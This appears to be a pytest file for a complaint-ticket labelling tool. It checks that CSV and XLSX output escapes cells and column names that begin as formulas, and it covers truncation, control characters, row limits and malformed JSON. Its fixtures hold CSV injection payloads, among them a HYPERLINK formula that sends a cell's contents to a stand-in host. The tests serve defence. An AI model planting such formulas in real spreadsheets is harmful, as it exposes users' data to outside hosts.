    # README sends Excel users to --out .xlsx: a CSV opened in Excel turns 202401050903000001
    # into 2.02401E+17 (saved back as ...000000) and 000123 into 123.
    import openpyxl

    ids = ["000123", "202401050903000001"]
    src = write_csv(tmp_path / "in.csv", [[i, "投诉", "老板拖欠工资三个月不发"] for i in ids])
    label([src], tiny_model_dir, tmp_path / "out.xlsx", jobs=1)
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    cells = [r[0] for r in sheet.iter_rows(min_row=2, max_col=1)]
    assert [c.value for c in cells] == ids
    assert all(c.data_type == "s" for c in cells)


# Cells that Excel (or LibreOffice) runs as a formula when it opens a CSV file: OWASP's list.
FORMULA_TEXTS = [
    '=HYPERLINK("http://x.example/?d="&C3,"点击查看附件") 拖欠工资',
    "+1+1 小区路灯不亮",
    "-2+3 油烟扰民",
    "@SUM(1+1) 道路积水",
    "\t=1+1 垃圾清运不及时",
    "\r=1+1 噪音扰民",
    "＝1+1 全角等号",
]


def formula_backlog(path: Path) -> tuple[Path, list[list[str]]]:
    """A CSV backlog whose titles and texts begin as formulas, beside plain ones, a blank text (an
    error row) and a number column with negative numbers."""
    rows: list[list[str]] = []
    for i in range(24):
        title, text = TINY_TICKETS[i % len(TINY_TICKETS)][:2]
        text = FORMULA_TEXTS[i % len(FORMULA_TEXTS)] if i % 3 else text
        title = "=SUM(A1)" if i % 4 == 0 else title
        rows.append([f"F{i:02d}", title, "" if i == 5 else text, str(-i), "'=已有引号"])
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "title", "text", "amount", "note"])
        w.writerows(rows)
    return path, rows


def escaped(cell: str) -> str:
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝") else cell


def test_csv_output_escapes_formula_cells_once_also_after_a_resume(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A citizen's "=HYPERLINK(…)" was written as it is, and Excel opened it as a live formula.
    src, rows = formula_backlog(tmp_path / "in.csv")
    whole = tmp_path / "whole.csv"
    result = label([src], tiny_model_dir, whole, jobs=1, chunk_size=5)
    out = read_output(whole)
    # Every input row, once and in order; each formula cell with one leading quote; the numbers
    # (-5 in a number column), the text already quoted and the labels as they are.
    assert out["id"].tolist() == [r[0] for r in rows]
    for column, i in (("title", 1), ("text", 2), ("amount", 3), ("note", 4)):
        want = [escaped(r[i]) if column in ("title", "text") else r[i] for r in rows]
        assert out[column].tolist() == want, column
    assert out["amount"].tolist()[1:3] == ["-1", "-2"]
    assert (out["error"] != "").sum() == 1 and out["error"][5].startswith("empty text")
    assert out.loc[out["error"] == "", "pred_department"].ne("").all()
    n_formulas = sum(1 for r in rows for c in r[1:3] if escaped(c) != c)
    assert result.summary["formulas_escaped"] == n_formulas > 10
    # Excel reads the file as text cells only: no cell begins a formula any more.
    with open(whole, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in "=+@\t\r＝" and c]
    assert [c for c in cells if c.startswith("-")] == [str(-i) for i in range(1, 24)]

    # Interrupted after two chunks and resumed: the parts hold the cells as read, so the resumed
    # file escapes each once, byte for byte as the uninterrupted run.
    resumed = tmp_path / "resumed.csv"

    def stop(stage: str, done: int, total: int) -> None:
        if done >= 10:
            raise Interrupt

    with pytest.raises(Interrupt):
        label([src], tiny_model_dir, resumed, jobs=1, chunk_size=5, progress=stop)
    again = label([src], tiny_model_dir, resumed, jobs=1, chunk_size=5, resume=True)
    assert again.resumed_chunks == 2
    assert resumed.read_bytes() == whole.read_bytes()
    assert again.summary["formulas_escaped"] == n_formulas


def test_no_escape_formulas_writes_csv_cells_as_read(tiny_model_dir: Path, tmp_path: Path) -> None:
    # For programs that read the file: the same cells as the input, and as JSON Lines writes them.
    src, rows = formula_backlog(tmp_path / "in.csv")
    args = ["label", str(src), "--model", str(tiny_model_dir), "--jobs", "1"]
    res = CliRunner().invoke(
        app, [*args, "--out", str(tmp_path / "raw.csv"), "--no-escape-formulas"]
    )
    assert res.exit_code == 0, res.output
    raw = read_output(tmp_path / "raw.csv")
    assert raw[["id", "title", "text", "amount", "note"]].values.tolist() == rows
    assert "formulas_escaped" in json.loads((tmp_path / "raw.csv.summary.json").read_text())
    res = CliRunner().invoke(app, [*args, "--out", str(tmp_path / "safe.csv")])
    assert res.exit_code == 0, res.output
    assert read_output(tmp_path / "safe.csv")["text"].tolist() == [escaped(r[2]) for r in rows]
    # JSON Lines and Parquet are for programs: never changed.
    for name in ("out.jsonl", "out.parquet"):
        label([src], tiny_model_dir, tmp_path / name, jobs=1)
        assert read_output(tmp_path / name)["text"].tolist() == [r[2] for r in rows]


def test_xlsx_output_says_which_cells_it_cut_to_excels_limit(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # openpyxl cuts a string to Excel's 32,767 characters without a word: a long text or note
    # came back missing its tail, and nothing said so.
    import openpyxl

    long_text = "路灯不亮" * 10_000  # 40,000 characters: a "text too long" row
    note = "附件" * 20_000  # 40,000 characters beside a ticket that is labelled
    emoji = "😀" * 17_000  # 17,000 characters, 34,000 as Excel counts them
    rows = [
        {"id": "L1", "text": long_text, "notes": ""},
        {"id": "L2", "text": TINY_TICKETS[0][1], "notes": note},
        {"id": "L3", "text": TINY_TICKETS[1][1], "notes": emoji},
        {"id": "L4", "text": TINY_TICKETS[2][1], "notes": "x" * 32_767},  # fits exactly
    ]
    src = tmp_path / "in.jsonl"
    src.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8"
    )
    out = tmp_path / "out.xlsx"
    res = CliRunner().invoke(
        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    )
    assert res.exit_code == 0, res.output

    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    got = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert [r["id"] for r in got] == ["L1", "L2", "L3", "L4"]
    assert got[0]["text"] == long_text[:32_767]
    assert got[0]["error"].startswith("text too long")
    assert (
        "; cut in this workbook: 'text' has 40,000 characters, over the 32,767" in got[0]["error"]
    )
    assert ".csv, .jsonl or .parquet" in got[0]["error"]
    # A labelled row keeps its labels; its error says what was cut.
    assert got[1]["notes"] == note[:32_767] and got[1]["decision"] in ("auto", "review")
    assert got[1]["error"].startswith("cut in this workbook: 'notes' has 40,000 characters")
    assert got[2]["notes"] == emoji[:16_383]  # never half an emoji
    assert "(an emoji counts as two)" in got[2]["error"]
    assert got[3]["notes"] == "x" * 32_767 and got[3]["error"] is None

    summary = json.loads((tmp_path / "out.xlsx.summary.json").read_text(encoding="utf-8"))
    assert summary["cells_cut"] == 3 and summary["rows_with_cells_cut"] == 3
    assert summary["errors"] == 1 and summary["labelled"] == 3  # the labels are not errors
    said = " ".join(res.stderr.split())
    assert "warning: 3 cells in 3 rows held more than the 32,767 characters" in said
    assert "(the first: sheet row 2, column 'text': 40,000 characters)" in said
    assert "write .csv, .jsonl or .parquet" in said

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)  # other formats: nothing cut
    assert read_output(tmp_path / "out.csv")["notes"][1] == note
    summary = json.loads((tmp_path / "out.csv.summary.json").read_text(encoding="utf-8"))
    assert "cells_cut" not in summary


def test_xlsx_output_says_it_removed_control_characters(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # XML cannot hold a NUL or \x1c, so openpyxl's rule removes them: "漏水\x1c\x1d\x1e楼上" came
    # back "漏水楼上" with nothing said, where the docs said every text was kept exactly.
    import openpyxl

    rows = [
        {"id": "C1", "text": TINY_TICKETS[0][1], "notes": "ok"},
        {"id": "C2", "text": "漏水\x1c\x1d\x1e楼上", "notes": "a\x00b"},
        {"id": "C3", "text": "路灯\t不亮\n已经一周", "notes": "\x0b"},  # a tab and a line end stay
    ]
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "out.xlsx"
    res = CliRunner().invoke(
        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    )
    assert res.exit_code == 0, res.output
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    got = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert got[1]["text"] == "漏水楼上" and got[1]["notes"] == "ab"
    assert got[2]["text"] == "路灯\t不亮\n已经一周"
    summary = json.loads((tmp_path / "out.xlsx.summary.json").read_text(encoding="utf-8"))
    assert summary["cells_with_control_characters_removed"] == 3
    said = " ".join(res.stderr.split())
    assert "warning: 3 cells held control characters" in said, said
    assert "(the first: sheet row 3, column 'text')" in said


# Column names as an export may have them (a spreadsheet's header row, a JSON key): the output's
# header writes them back, where a spreadsheet runs them as it runs a cell.
FORMULA_NAMES = ['=HYPERLINK("http://x.example/?d="&C2,"附件")', "@备注", "＋金额", "-1"]


def formula_names_backlog(path: Path) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "title", "text", *FORMULA_NAMES])
        w.writerow(["H1", "投诉", TINY_TICKETS[0][1], "a", "b", "c", "d"])
    return path


def test_csv_output_escapes_column_names_that_begin_as_formulas(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The header was written as read: a column named "=HYPERLINK(…)" was a live formula in the
    # first row of the file Excel opened, however carefully the cells under it were escaped.
    src = formula_names_backlog(tmp_path / "in.csv")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    assert header[:7] == ["id", "title", "text", *("'" + n for n in FORMULA_NAMES[:3]), "-1"]
    assert row[:7] == ["H1", "投诉", TINY_TICKETS[0][1], "a", "b", "c", "d"]
    assert result.summary["formulas_escaped"] == 3
    # For programs: the names as read.
    label([src], tiny_model_dir, tmp_path / "raw.csv", jobs=1, escape_formulas=False)
    raw = read_output(tmp_path / "raw.csv")
    assert list(raw.columns[:7]) == ["id", "title", "text", *FORMULA_NAMES]


def test_xlsx_output_writes_column_names_as_text_cells(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # openpyxl stored a header name beginning with "=" as a formula, which Excel runs.
    import openpyxl

    src = formula_names_backlog(tmp_path / "in.csv")
    label([src], tiny_model_dir, tmp_path / "out.xlsx", jobs=1)
    header = next(openpyxl.load_workbook(tmp_path / "out.xlsx").active.iter_rows(max_row=1))
    assert [c.value for c in header[:7]] == ["id", "title", "text", *FORMULA_NAMES]
    assert all(c.data_type == "s" for c in header)


def test_xlsx_output_removes_control_characters_from_column_names_too(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A JSON key holding a control character stopped the run with openpyxl's traceback
    # (IllegalCharacterError), before a row was labelled; a cell holding one is cleaned and said.
    import openpyxl

    rows = [{"id": "K1", "text": TINY_TICKETS[0][1], "备\x01注": "x"}]
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "out.xlsx"
    res = CliRunner().invoke(
        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    )
    assert res.exit_code == 0, res.output
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet[1]][:3] == ["id", "text", "备注"]
    assert [c.value for c in sheet[2]][:3] == ["K1", TINY_TICKETS[0][1], "x"]
    summary = json.loads((tmp_path / "out.xlsx.summary.json").read_text(encoding="utf-8"))
    assert summary["cells_with_control_characters_removed"] == 1
    said = " ".join(res.stderr.split())
    assert "warning: 1 cell held control characters" in said, said
    assert "(the first: sheet row 1, column " in said


@pytest.fixture
def small_sheet(monkeypatch: pytest.MonkeyPatch) -> int:
    """Excel's sheet lowered to a header and 20 rows; returns the rows it holds."""
    import training.label
    import training.label_io

    for module in (training.label, training.label_io):
        monkeypatch.setattr(module, "XLSX_MAX_ROWS", 21, raising=False)
    return 20


def test_xlsx_output_over_a_sheet_is_refused_before_a_row_is_labelled(
    tiny_model_dir: Path, tmp_path: Path, small_sheet: int
) -> None:
    # It was refused only once every row that fits had been labelled (minutes to hours), naming a
    # hidden temporary file, with a traceback, and leaving OUTPUT.parts/ behind unmentioned.
    src = write_csv(tmp_path / "in.csv", ticket_rows(small_sheet + 10))
    out = tmp_path / "out.xlsx"
    res = CliRunner().invoke(
        app,
        ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"],
    )
    assert res.exit_code != 0
    said = res.stderr.strip()
    assert said.count("\n") == 0 and "Traceback" not in said, said
    assert f"--out {out}: the input has more than {small_sheet} rows" in said
    assert "write .csv, .jsonl or .parquet instead" in said and "nothing was labelled" in said
    assert not out.exists() and not (tmp_path / "out.xlsx.parts").exists()

    # Parquet's rows are counted exactly, from its metadata.
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = ticket_rows(small_sheet + 1)
    pq.write_table(
        pa.table({"id": [r[0] for r in rows], "text": [r[2] for r in rows]}),
        tmp_path / "in.parquet",
    )
    with pytest.raises(
        LabelError,
        match=f"the input has {small_sheet + 1} rows, and one Excel sheet holds {small_sheet}",
    ):
        label([tmp_path / "in.parquet"], tiny_model_dir, out, jobs=1)

    # More lines than a sheet holds, but as many rows as it does (texts of several lines): counted,
    # and labelled.
    rows = ticket_rows(small_sheet)
    for row in rows[:8]:
        row[2] += "\n（补充说明）"
    src = write_csv(tmp_path / "lines.csv", rows)
    label([src], tiny_model_dir, out, jobs=1, chunk_size=7)
    assert len(read_output(out)) == small_sheet


def test_xlsx_output_over_a_sheet_from_workbooks_of_no_declared_size_is_refused_first(
    tiny_model_dir: Path, tmp_path: Path, small_sheet: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Workbooks written in openpyxl's write-only mode declare no size, others declare A1: each
    # was estimated at 0 rows and never counted, so together they were labelled up to the limit,
    # then refused and their chunks removed.
    import openpyxl

    import training.label_io
    from tests.training.test_tickets import with_dimension

    labelled: list[int] = []
    write = training.label_io.OutputWriter.write

    def spy(self, table):
        labelled.append(table.num_rows)
        return write(self, table)

    monkeypatch.setattr(training.label_io.OutputWriter, "write", spy)
    rows = ticket_rows(small_sheet * 3 // 4)
    for name in ("month1.xlsx", "month2.xlsx"):
        wb = openpyxl.Workbook(write_only=True)
        ws = wb.create_sheet()
        for row in [["id", "title", "text"], *rows]:
            ws.append(row)
        wb.save(tmp_path / name)
    wb = openpyxl.Workbook()
    for row in [["id", "title", "text"], *rows]:
        wb.active.append(row)
    wb.save(tmp_path / "month3.xlsx")
    with_dimension(tmp_path / "month3.xlsx", "A1")
    out = tmp_path / "out.xlsx"
    for pair in (("month1.xlsx", "month2.xlsx"), ("month1.xlsx", "month3.xlsx")):
        with pytest.raises(LabelError, match="nothing was labelled"):
            label([tmp_path / n for n in pair], tiny_model_dir, out, jobs=1, chunk_size=5)
        assert labelled == [] and not (tmp_path / "out.xlsx.parts").exists()
    # One of them fits, and is labelled whole.
    label([tmp_path / "month3.xlsx"], tiny_model_dir, out, jobs=1, chunk_size=5)
    assert len(read_output(out)) == len(rows)


def test_xlsx_output_over_a_sheet_found_late_is_one_line_and_leaves_nothing(
    tiny_model_dir: Path, tmp_path: Path, small_sheet: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Inputs counted low before the run (a workbook's stale declared size): found as the rows are
    # written, said naming --out, not a temporary file, and with no "Exception ignored" from
    # openpyxl's sheet writer; the parts, which could only continue this run, are removed.
    import gc
    import sys

    import training.label

    monkeypatch.setattr(training.label, "estimate_rows", lambda path: 0)
    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    src = write_csv(tmp_path / "in.csv", ticket_rows(small_sheet + 10))
    out = tmp_path / "out.xlsx"
    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=10)
    said = str(e.value)
    del e  # its traceback holds the writer
    gc.collect()
    assert said.startswith(f"--out {out}: the input has more than {small_sheet} rows")
    assert "the labelled chunks are removed" in said and ".tmp" not in said
    assert not out.exists() and not (tmp_path / "out.xlsx.parts").exists()
    assert unraisable == []


def test_label_refuses_a_directory_holding_a_part_it_cannot_read(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A compressed part was skipped: label wrote fewer rows than the directory holds, silently.
    import gzip

    parts = tmp_path / "parts"
    parts.mkdir()
    src = write_csv(parts / "a.csv", ticket_rows(3))
    (parts / "b.csv.gz").write_bytes(gzip.compress(src.read_bytes()))
    with pytest.raises(TicketFileError, match=r"holds 'b.csv.gz' \(decompress it\)"):
        label([parts], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_label_skips_excel_owner_and_macos_files_in_a_directory(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # "~$b.xlsx" (b.xlsx open in Excel) or "._a.xlsx" (macOS) refused the whole run.
    parts = tmp_path / "parts"
    parts.mkdir()
    rows = ticket_rows(5)
    pd.DataFrame(rows[:2], columns=["id", "title", "text"]).to_excel(parts / "a.xlsx", index=False)
    pd.DataFrame(rows[2:], columns=["id", "title", "text"]).to_excel(parts / "b.xlsx", index=False)
    (parts / "~$b.xlsx").write_bytes(b"\x05Alice" + b" " * 49 + b"\0" * 110)
    (parts / "._a.xlsx").write_bytes(b"\x00\x05\x16\x07Mac OS X" + b"\0" * 64)
    result = label([parts], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert list(read_output(tmp_path / "out.csv")["id"]) == [r[0] for r in rows]
    assert result.summary["rows"] == 5 and result.summary["errors"] == 0


def test_label_reads_the_parts_in_subdirectories_and_resumes_over_them(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # backlog/2024-03/part-*.csv was left out: 4 of 9 rows labelled, "0 with an error".
    parts = tmp_path / "backlog"
    (parts / "2024-03").mkdir(parents=True)
    rows = ticket_rows(9)
    write_csv(parts / "2024-01.csv", rows[:2])
    write_csv(parts / "2024-02.csv", rows[2:4])
    write_csv(parts / "2024-03" / "part-1.csv", rows[4:6])
    write_csv(parts / "2024-03" / "part-2.csv", rows[6:8])
    write_csv(parts / "2024-04.csv", rows[8:])
    out = tmp_path / "out.csv"
    result = label([parts], tiny_model_dir, out, jobs=1, chunk_size=2)
    assert list(read_output(out)["id"]) == [r[0] for r in rows]
    assert result.summary["rows"] == 9
    assert [Path(p).relative_to(parts).as_posix() for p in result.summary["input"]] == [
        "2024-01.csv",
        "2024-02.csv",
        "2024-03/part-1.csv",
        "2024-03/part-2.csv",
        "2024-04.csv",
    ]
    # A resumed run reads the same files in the same order: the parts of the first chunks are
    # kept, the output is the same.
    first = out.read_bytes()
    out.unlink()
    Path(str(out) + ".summary.json").unlink()

    def stop(stage: str, done: int, total: int) -> None:
        if done >= 6:  # 2024-03/part-1.csv labelled
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        label([parts], tiny_model_dir, out, jobs=1, chunk_size=2, progress=stop)
    resumed = label([parts], tiny_model_dir, out, jobs=1, chunk_size=2, resume=True)
    assert resumed.resumed_chunks == 3 and out.read_bytes() == first


def test_a_directory_of_parts_with_different_columns(tiny_model_dir: Path, tmp_path: Path) -> None:
    parts = tmp_path / "parts"
    parts.mkdir()
    pd.DataFrame(ticket_rows(3), columns=["id", "title", "text"]).to_csv(
        parts / "a.csv", index=False
    )
    second = pd.DataFrame(ticket_rows(5)[3:], columns=["id", "title", "text"])
    second["region"] = "芙蓉区"
    second.to_json(parts / "b.jsonl", orient="records", lines=True, force_ascii=False)
    (parts / "notes.md").write_text("not a ticket file")
    result = label([parts], tiny_model_dir, tmp_path / "out.parquet", jobs=1)
    df = read_output(tmp_path / "out.parquet")
    assert list(df["id"]) == [r[0] for r in ticket_rows(5)]
    assert list(df["region"]) == ["", "", "", "芙蓉区", "芙蓉区"]
    assert result.summary["rows"] == 5


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".jsonl"])
def test_a_partitioned_backlogs_directory_values_come_back_as_columns(
    tiny_model_dir: Path, tmp_path: Path, suffix: str
) -> None:
    # A backlog exported partitioned by district (Spark's partitionBy("district")) keeps the
    # district in each directory's name: every row came back without it.
    backlog = tmp_path / "backlog"
    rows = ticket_rows(4)
    parts = {
        "district=芙蓉区/day=1/part-0.parquet": rows[:2],
        "district=__HIVE_DEFAULT_PARTITION__/day=1/part-0.csv": rows[2:3],
        "district=岳麓区/day=2/part-0.jsonl": rows[3:],
    }
    for name, part in parts.items():
        write_frame(backlog / name, pd.DataFrame(part, columns=["id", "title", "text"]))
    out = tmp_path / f"out{suffix}"
    result = label([backlog], tiny_model_dir, out, jobs=1)
    df = read_output(out)
    # In order of their paths: __HIVE_DEFAULT_PARTITION__ (a missing value) sorts first.
    assert list(df["id"]) == [rows[2][0], rows[3][0], rows[0][0], rows[1][0]]
    assert list(df["district"].fillna("")) == ["", "岳麓区", "芙蓉区", "芙蓉区"]
    assert list(df["day"]) == ["1", "2", "1", "1"]
    assert list(df.columns[:5]) == ["id", "title", "text", "district", "day"]
    assert result.summary["labelled"] == 4


def test_blank_lines_are_no_rows_and_the_summary_counts_them(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A CSV written with \r\r\n line ends (Python's csv module on Windows, a file opened
    # without newline="") has a blank line after every row, which pandas and train skip: label
    # skipped them too, without a word, and 7 lines came back as 3 rows.
    rows = ticket_rows(3)
    lines = ["id,title,text", *(",".join(r) for r in rows)]
    (tmp_path / "in.csv").write_bytes("\r\r\n".join(lines).encode() + b"\r\r\n")
    jsonl = [json.dumps(dict(zip(["id", "title", "text"], r, strict=True))) for r in rows]
    (tmp_path / "in.jsonl").write_text(
        "\n".join([jsonl[0], "", jsonl[1], "   ", jsonl[2]]) + "\n", encoding="utf-8"
    )
    options = ["--model", str(tiny_model_dir), "--out", str(tmp_path / "out.csv"), "--jobs", "1"]
    inputs = [str(tmp_path / "in.csv"), str(tmp_path / "in.jsonl")]
    res = CliRunner().invoke(app, ["label", *inputs, *options])
    assert res.exit_code == 0, res.output
    assert list(read_output(tmp_path / "out.csv")["id"]) == [r[0] for r in rows] * 2
    summary = json.loads((tmp_path / "out.csv.summary.json").read_text(encoding="utf-8"))
    assert summary["rows"] == 6
    assert summary["blank_lines"] == {
        "in.csv": {"count": 4, "first": [2, 4, 6, 8]},
        "in.jsonl": {"count": 2, "first": [2, 4]},
    }
    said = (
        "blank lines are no rows (as pandas reads them): in.csv has 4 (lines 2, 4, 6, 8); "
        "in.jsonl has 2 (lines 2, 4)"
    )
    assert said in res.output
    # Ten listed, all counted; none, nothing said.
    many = tmp_path / "many.csv"
    many.write_text("id,title,text\n" + "\n" * 12 + ",".join(rows[0]) + "\n", encoding="utf-8")
    result = label([many], tiny_model_dir, tmp_path / "many-out.csv", jobs=1)
    assert result.summary["blank_lines"] == {"many.csv": {"count": 12, "first": list(range(2, 12))}}
    write_csv(tmp_path / "plain.csv", rows)
    result = label([tmp_path / "plain.csv"], tiny_model_dir, tmp_path / "plain-out.csv", jobs=1)
    assert result.summary["blank_lines"] == {}


def test_evidence_columns_are_null_on_error_rows_and_an_input_holding_them_is_refused(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    rows = ticket_rows(3)
    rows[1][2] = ""  # an empty text: an error row
    src = write_csv(tmp_path / "in.csv", rows)
    out = tmp_path / "out.parquet"
    label([src], tiny_model_dir, out, jobs=2, evidence=True)
    df = pd.read_parquet(out)
    # The names themselves are checked where a model with remits fills them (test_remits.py).
    assert list(df.columns[3:]) == [*PRED_COLUMNS[:-1], *EVIDENCE_COLUMNS, "error"]
    for head in ("department", "category"):
        evidence = df[f"{head}_evidence"].tolist()
        assert json.loads(evidence[0]) and pd.isna(evidence[1]) and json.loads(evidence[2])
        assert df[f"{head}_remit"].isna().all()  # the tiny model has no remits
        assert df[f"{head}_rule"].isna().all()  # nor rules
    assert df["error"].notna().tolist() == [False, True, False]
    # A column of that name in the input would be overwritten: refused with --evidence only.
    clashing = pd.read_csv(src, dtype=str).assign(department_remit="x")
    clashing.to_csv(tmp_path / "clash.csv", index=False)
    with pytest.raises(LabelError, match=r"already has output column.*'department_remit'"):
        label([tmp_path / "clash.csv"], tiny_model_dir, tmp_path / "c.csv", jobs=1, evidence=True)
    result = label([tmp_path / "clash.csv"], tiny_model_dir, tmp_path / "c.csv", jobs=1)
    assert result.summary["rows"] == 3


def test_malformed_jsonl_lines_are_kept(tiny_model_dir: Path, tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text(
        '{"id": "J1", "text": "老板拖欠工资"}\n{not json}\n[1, 2]\n\n{"id": "J4", "text": "油烟扰民"}\n',
        encoding="utf-8",
    )
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == ["J1", "", "", "J4"]
    assert df["error"][1].startswith("malformed JSON") and "line 2" in df["error"][1]
    assert df["error"][2].startswith("malformed JSON") and "line 3" in df["error"][2]


def test_a_broken_json_line_is_named_with_its_column(tiny_model_dir: Path, tmp_path: Path) -> None:
    # json's own message for a line cut short ends "Unterminated string starting at" (the place
    # is in other attributes): label's error row and train's refusal both ended there, mid-sentence.
    src = tmp_path / "in.jsonl"
    src.write_text(
        '{"id": "J1", "text": "老板拖欠工资"}\n{"id": "J2", "text": "油烟扰\n'
        '{"id": "J3", "text": "噪音"} x\n',
        encoding="utf-8",
    )
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["error"][1:]) == [
        "malformed JSON: line 2 of in.jsonl: Unterminated string starting at column 22",
        "malformed JSON: line 3 of in.jsonl: Extra data at column 28",
    ]
    with pytest.raises(TicketFileError) as e:
        read_tickets([src], ColumnMap())
    assert str(e.value).endswith(
        "in.jsonl, line 2: not valid JSON (Unterminated string starting at column 22)"
    )


def test_a_json_line_cut_short_keeps_its_id_when_it_can_be_read(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A JSON Lines export cut off partway (a full disk, a copy stopped) gave an error row with no
    # id, so it could not be joined back to its ticket, though the id was there to read.
    src = tmp_path / "in.jsonl"
    lines = [
        '{"工单编号": 1, "id": "J1", "text": "老板拖欠工资"}',
        '{"id": "J\\"2", "text": "油烟扰',  # cut in the text: the id (J"2) is whole
        '{"工单编号": 7, "id" :20240105, "text": "噪音',  # a number, spaced otherwise
        '{"text": "路灯", "meta": {"id": "x"}, "id": "J4", "title": "路',  # the line's own id
        '{"meta": {"id": "x"}, "text": "路灯',  # an object inside has an id, the line none
        '{"id": "J6", "text": "路灯", "id": "J7", "tit',  # which of the two?
        '{"text": "井盖", "id": "J8',  # cut inside the id
        '{"text": "有人说\\"id\\": \\"Q\\"", "tit',  # "id" inside a text only
    ]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    for suffix in ("csv", "jsonl"):
        out = tmp_path / f"out.{suffix}"
        label([src], tiny_model_dir, out, jobs=1)
        df = read_output(out)
        assert df["error"][1:].str.startswith("malformed JSON").all()
        ids = ["" if pd.isna(v) else str(v) for v in df["id"]]
        assert ids == ["J1", 'J"2', "20240105", "J4", "", "", "", ""]
    label([src], tiny_model_dir, tmp_path / "w.csv", columns=ColumnMap(id="工单编号"), jobs=1)
    assert list(read_output(tmp_path / "w.csv")["工单编号"]) == ["1", "", "7", "", "", "", "", ""]


def test_unpaired_surrogate_escapes_in_jsonl_are_errors_not_a_crash(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # "\ud800" alone is valid JSON but no character; it cannot be written as UTF-8. A real pair
    # ("\ud83d\ude00", an emoji) is fine.
    src = tmp_path / "in.jsonl"
    src.write_text(
        '{"id": "J1", "text": "\\ud800 楼下烧烤店油烟很大"}\n'
        '{"id": "J2", "title": "\\uDFFF", "text": "电梯坏了"}\n'
        '{"id": "J3", "text": "老板拖欠工资 \\ud83d\\ude00"}\n',
        encoding="utf-8",
    )
    for out in ("out.csv", "out.jsonl", "out.parquet"):
        result = label([src], tiny_model_dir, tmp_path / out, jobs=1)
        df = read_output(tmp_path / out).astype(object).fillna("")
        assert list(df["id"]) == ["J1", "J2", "J3"]
        assert (
            "line 1" in df["error"][0]
            and "'text'" in df["error"][0]
            and "\\ud800" in df["error"][0]
        )
        assert (
            "line 2" in df["error"][1]
            and "'title'" in df["error"][1]
            and "\\udfff" in df["error"][1]
        )
        assert df["text"][0] == "\ufffd 楼下烧烤店油烟很大" and df["title"][1] == "\ufffd"
        assert df["error"][2] == "" and df["text"][2] == "老板拖欠工资 \U0001f600"
        assert df["pred_department"][2] == "人社"
        assert result.summary["errors_by_kind"] == {"unreadable": 2}


@pytest.mark.parametrize("suffix", [".jsonl", ".json"])
def test_an_unpaired_surrogate_escape_in_a_json_key_is_a_row_error_not_a_traceback(
    tiny_model_dir: Path, tmp_path: Path, suffix: str
) -> None:
    # A key may hold "\udfff" alone as a value may: the column name reached the output's schema
    # as is, and every output format ended in a UnicodeEncodeError traceback, nothing written.
    objects = [
        '{"id": "J1", "text": "楼下烧烤店油烟很大"}',
        '{"id": "J2", "text": "电梯坏了", "note\\udfff": "x"}',
        '{"id": "J3", "text": "老板拖欠工资"}',
    ]
    src = tmp_path / f"in{suffix}"
    text = "\n".join(objects) if suffix == ".jsonl" else "[" + ",\n".join(objects) + "]"
    src.write_text(text + "\n", encoding="utf-8")
    for out in ("out.csv", "out.jsonl", "out.parquet", "out.xlsx"):
        result = label([src], tiny_model_dir, tmp_path / out, jobs=1)
        df = read_output(tmp_path / out).astype(object).fillna("")
        assert list(df["id"]) == ["J1", "J2", "J3"]
